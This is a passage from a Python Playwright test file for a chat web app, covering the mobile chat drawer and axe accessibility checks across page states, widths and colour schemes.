        await expect(page.get_by_role("button", name="New chat")).to_be_focused()
        await page.keyboard.press("Escape")
        await expect(page.get_by_role("button", name="New chat")).to_be_hidden()
        await page.get_by_role("button", name="Chats", exact=True).tap()
        await page.touchscreen.tap(340, 400)
        await expect(page.get_by_role("button", name="New chat")).to_be_hidden()
        await page.get_by_role("button", name="Chats", exact=True).tap()
        await page.get_by_role("button", name="New chat").tap()
        assert await page.locator("#log > li").count() == 0
        await expect(page.get_by_label("Message", exact=True)).to_be_in_viewport()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 360])
async def test_axe_finds_nothing_that_keeps_anybody_out(
    chromium: Browser, tmp_path: Path, scheme: Literal["light", "dark"], width: int
) -> None:
    """Names, roles, order and contrast, in every state that the page has."""
    from axe_playwright_python.async_playwright import Axe

    async def check(state: str, part: str = "html") -> None:
        found = await Axe().run(page, part)
        assert found.violations_count == 0, f"{state}: {found.generate_report()}"

    text = "# Head\n\nText with `code`, **bold**, https://example.org\n\n> quote\n\n```py\nx = 1\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n- a\n  1. b"
    engine = ScriptedEngine(says(text))
    async with scripted(chromium, tmp_path, engine, color_scheme=scheme, viewport={"width": width, "height": 800}) as page:
        ground = await page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert ground == {"light": "rgb(246, 247, 249)", "dark": "rgb(14, 17, 22)"}[scheme]
        await check("empty")
        await ask(page, "Hi")
        await answered(page)
        engine.script = [EngineError("no")]
        await ask(page, "And?")
        await answered(page, 2)
        await check("an answer and an error")
        await page.get_by_role("button", name="Settings").click()
        await check("settings")
        await page.get_by_role("button", name="Enter a key").click()
        await check("key")
        await page.keyboard.press("Escape")
        engine.script = (Delta("Beg"), 30.0)
        await ask(page, "Still?")
        await check("under way")
        await page.keyboard.press("Escape")
        if width == 360:
            await page.get_by_role("button", name="Chats", exact=True).click()
            await check("drawer", "#side")
